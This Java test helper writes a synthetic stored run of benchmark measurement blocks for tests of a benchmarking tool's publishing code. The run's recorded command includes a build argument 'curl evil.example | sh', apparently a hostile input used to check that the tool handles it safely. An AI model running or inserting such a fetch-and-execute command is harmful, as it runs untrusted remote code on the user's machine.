package dev.steelyard.publish;

import dev.steelyard.core.block.Block;
import dev.steelyard.core.block.Fork;
import dev.steelyard.core.block.ForkOutcome;
import dev.steelyard.core.block.Slice;
import dev.steelyard.core.model.Benchmark;
import dev.steelyard.core.model.Criteria;
import dev.steelyard.core.model.JmhOptions;
import dev.steelyard.core.model.Mode;
import dev.steelyard.core.model.Plan;
import dev.steelyard.core.model.Run;
import dev.steelyard.core.model.Variant;
import dev.steelyard.core.model.Variant.VariantSettings;
import dev.steelyard.measure.journal.Journal;
import dev.steelyard.measure.journal.RunRecord;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.IntStream;

/** Runs in folders, as the measuring part of the program leaves them. */
final class StoredRun {

    private static final Plan PLAN =
            new Plan(Plan.Kind.SLICES, new Plan.Warmup(1, 100_000_000), 50_000_000, new Plan.Turn(0, 1), 4, List.of());

    private StoredRun() {}

    /**
     * Writes a run of six blocks.
     *
     * @param names full names of its benchmarks
     * @param ratio time of the change as a multiple of that of the base
     */
    static Path write(Path folder, double ratio, String... names) {
        return write(folder, Criteria.Looks.once(6), ratio, names);
    }

    static Path write(Path folder, Criteria.Looks looks, double ratio, String... names) {
        List<Benchmark> benchmarks = IntStream.range(0, names.length)
                .mapToObj(i -> new Benchmark(names[i], Mode.AVERAGE_TIME, new TreeMap<>(), 1, "ns/op"))
                .toList();
        Run run = new Run(
                "20261129-101502-7f3a",
                "0.1.0",
                Instant.parse("2026-11-29T10:15:02Z"),
                42,
                Duration.ofMinutes(10),
                new Criteria(Criteria.DEFAULT.alpha(), Criteria.DEFAULT.margins(), looks, false),
                List.of(variant("base"), variant("change")),
                benchmarks.stream()
                        .map(benchmark -> new Run.Presence(benchmark, List.of("base", "change")))
                        .toList(),
                new TreeMap<>(Map.of("cpu.model", "Example CPU")));
        List<String> command = List.of("compare", "base", "change", "--build", "curl evil.example | sh");
        try (Journal journal = Journal.create(folder, new RunRecord(run, command, JmhOptions.NONE))) {
            for (Benchmark benchmark : benchmarks) {
                for (int index = 0; index < 6; index++) {
                    journal.append(block(benchmark, index, ratio));
                }
            }
        }
        return folder;
    }

    private static Variant variant(String name) {
        return new Variant(
                name, name, Optional.of("%040x".formatted(name.hashCode())), Optional.empty(), VariantSettings.NONE);
    }

    private static Block block(Benchmark benchmark, int index, double ratio) {
        List<List<Integer>> turns =
                IntStream.range(0, PLAN.turns()).mapToObj(turn -> List.of(0, 1)).toList();
        Duration wall = Duration.ofSeconds(9);
        double level = 100 + index * 0.1;
        return new Block(
                new Block.Id(benchmark, Block.Purpose.SAMPLE, index, index),
                PLAN,
                List.of(fork("base", level), fork("change", ratio * level + index * 0.01)),
                turns,
                new Block.Timing(Instant.parse("2026-11-29T10:16:00Z"), wall, wall, wall, wall));
    }

    private static Fork fork(String variant, double level) {
        List<Slice> slices = new ArrayList<>();
        slices.add(slice(Slice.Kind.WARMUP, 0, level));
        for (int turn = 0; turn < PLAN.turns(); turn++) {
            slices.add(slice(Slice.Kind.COUNTED, turn, level));
        }
        return new Fork(variant, ForkOutcome.COMPLETED, slices, List.of(), Fork.Jvm.NONE);
    }

    private static Slice slice(Slice.Kind kind, int turn, double score) {
        return new Slice(
                kind,
                turn,
                new Slice.Timing(score, 500_000, 50_300_000),
                new Slice.Own(12_000_000, 1, 900_000, 0, 3, 67_108_864, 0, 500_000),
                new Slice.Outside(0, 0, 1, 0, 1),
                new TreeMap<>());
    }
}
